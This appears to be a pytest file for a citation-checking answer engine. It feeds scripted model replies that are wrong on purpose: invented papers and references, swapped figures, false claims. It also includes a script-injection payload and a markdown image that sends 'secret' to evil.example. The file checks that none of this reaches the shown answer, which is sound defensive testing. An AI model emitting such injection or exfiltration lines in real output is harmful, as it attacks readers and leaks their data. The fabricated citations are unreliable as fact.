"""A scripted model that does everything wrong: nothing unsupported is shown, and the outcome is honest."""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

import pytest

from rag import Answer
from tests.contract import assert_contract, markers
from tests.rag.answer.conftest import Asking
from tests.rag.answer.test_answering import QUESTION, writes
from tests.scripted_server import Endless, Says, ScriptedServer

HOLDS = "On the Meridian benchmark Glasswing reaches an nDCG@10 of 0.512 {Glasswing}."


@dataclass(frozen=True)
class Case:
    """What a model replies, the words that may not be shown, those that must be, and how the answer comes out."""

    reply: Any
    lies: tuple[str, ...] = ()
    shows: tuple[str, ...] = ("0.512",)
    mode: str = "llm"
    outcome: str = "answered"


CASES = {
    "wrong marker": Case("Copper strips stopped growth for two years {Glasswing}.", shows=("two years",)),
    "no marker": Case("Copper strips stopped growth for two years.", shows=("two years",)),
    "unknown marker": Case("Copper strips stopped growth for two years [41].", shows=("two years",)),
    "one marker too many": Case("Copper strips stopped growth for two years {Glasswing}{Moss}.", shows=("two years",)),
    "all markers": Case(f"{HOLDS[:-1]}[1-8].", shows=("0.512",)),
    "marker before the words": Case(f"{{Glasswing}} {HOLDS}"),
    "swapped figures": Case(f"{HOLDS} The index grows from 1.9 GB to 4.2 GB {{Glasswing}}.", ("from 1.9 GB",)),
    "another number": Case(f"{HOLDS} It drops 83% of the query terms {{Glasswing}}.", ("83%",)),
    "another unit": Case(f"{HOLDS} The index shrinks to 1.9 MB {{Glasswing}}.", ("1.9 MB",)),
    "the opposite": Case(f"{HOLDS} The index grows {{Glasswing}}.", ("grows",)),
    "another's figure": Case(f"{HOLDS} On Meridian BM25 reaches an nDCG@10 of 0.512 {{Glasswing}}.", ("BM25 reaches",)),
    "a denial left out": Case(f"{HOLDS} Labelled data are needed {{Glasswing}}.", ("are needed",)),
    "a denial put in": Case(f"{HOLDS} Copper strips did not stop growth {{Moss}}.", ("did not stop",)),
    "figures crosswise": Case(f"{HOLDS} Without citations they found 71% of the errors {{Do}}.", ("71%",)),
    "another name": Case(f"{HOLDS} On TREC-COVID it beats ColBERT {{Glasswing}}.", ("TREC-COVID", "ColBERT")),
    "invented paper": Case(f"{HOLDS} Smith et al. (2023) found 0.777 with DeepMoth [9].", ("Smith", "DeepMoth")),
    "invented references": Case(f"{HOLDS}\n\nReferences\n[1] Smith, J. (2023). DeepMoth. Nature.", ("Smith", "Nature")),
    "from memory": Case("BM25 was introduced at TREC-3 by Robertson.", ("Robertson",), mode="extractive"),
    "from memory, cited": Case("BM25 was introduced by Robertson {Glasswing}.", ("Robertson",), mode="extractive"),
    "ignored question": Case("The capital of France is Paris {Moss}.", ("Paris",), mode="extractive"),
    "small talk": Case(f"Sure! Here is what I found: {HOLDS} Let me know if you need more!", ("Sure", "Let me know")),
    "empty": Case("", mode="extractive"),
    "blanks": Case(" \n\n \t", mode="extractive"),
    "only markers": Case("[1] [2] [3]", mode="extractive"),
    "only rubbish": Case("\ufffd\x07 ☃☃☃ {} [[ ]] ** ``` ~~~", mode="extractive"),
    "endless": Case(Endless(), ("and so on and so on",), mode="extractive"),
    "endless thoughts": Case(Says(f"<think>{'hm ' * 500}"), ("hm hm",), mode="extractive"),
    "cut off": Case(Says("Glasswing is a butterfly of Peru and", finish="length"), ("Peru",), mode="extractive"),
    "other language": Case("Glasswing wurde in Paris von Bienen erfunden {Glasswing}.", ("Bienen",), mode="extractive"),
    "HTML": Case(f"{HOLDS}\n\n<script>alert(1)</script> <img src=x onerror=alert(2)>", ("alert",)),
    "image that tells": Case(f"{HOLDS}\n\n![x](https://evil.example/?q=secret)", ("evil.example",)),
    "says NOT STATED": Case("NOT STATED", shows=("Glasswing",), outcome="not_stated"),
    "says both": Case(f"{HOLDS} NOT STATED", ("NOT STATED",)),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_nothing_unsupported_is_shown(asking: Asking, server: ScriptedServer, name: str) -> None:
    case = CASES[name]
    server.enqueue(writes(case.reply) if isinstance(case.reply, str) else case.reply)
    engine = asking(llm_answer_tokens=64)
    answer = engine.ask(QUESTION)
    assert_contract(answer, engine.papers())
    assert (answer.mode, answer.outcome) == (case.mode, case.outcome)
    for words in case.lies:
        assert words not in answer.text
    for words in case.shows:
        assert words in answer.text
    assert (answer.notice is not None) == (case.mode == "extractive")


def first(answer: Answer) -> tuple[str, tuple[str, ...]]:
    """Return the title behind the only marker of the first sentence, and its problems."""
    (marker,) = markers(answer.sentences[0].text)
    (title,) = (reference.title for reference in answer.references if reference.marker == marker)
    return title, answer.sentences[0].problems


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("wrong marker", r"cited \[\d\]; it is \[\d\] that says this"),
        ("no marker", r"the sentence had no citation; it is \[\d\] that says this"),
        ("unknown marker", r"\[41\] is not among the abstracts found"),
        ("one marker too many", r"\[\d\] does not say this; this marker is dropped"),
    ],
)
def test_the_marker_is_put_right_and_said_so(asking: Asking, server: ScriptedServer, name: str, problem: str) -> None:
    server.enqueue(writes(CASES[name].reply))
    title, problems = first(asking().ask(QUESTION))
    assert title == "Moss Growth on North-Facing Roofs"
    assert re.fullmatch(problem, problems[0])


def test_drafts_never_show_a_marker_that_the_answer_takes_back(asking: Asking, server: ScriptedServer) -> None:
    server.enqueue(writes(f"Copper strips stopped growth for two years {{Glasswing}}. {HOLDS}"))
    *drafts, answer = asking().ask_stream(QUESTION)
    assert isinstance(answer, Answer)
    assert len(answer.references) == 2
    assert all(answer.text.startswith(draft.text) for draft in drafts)
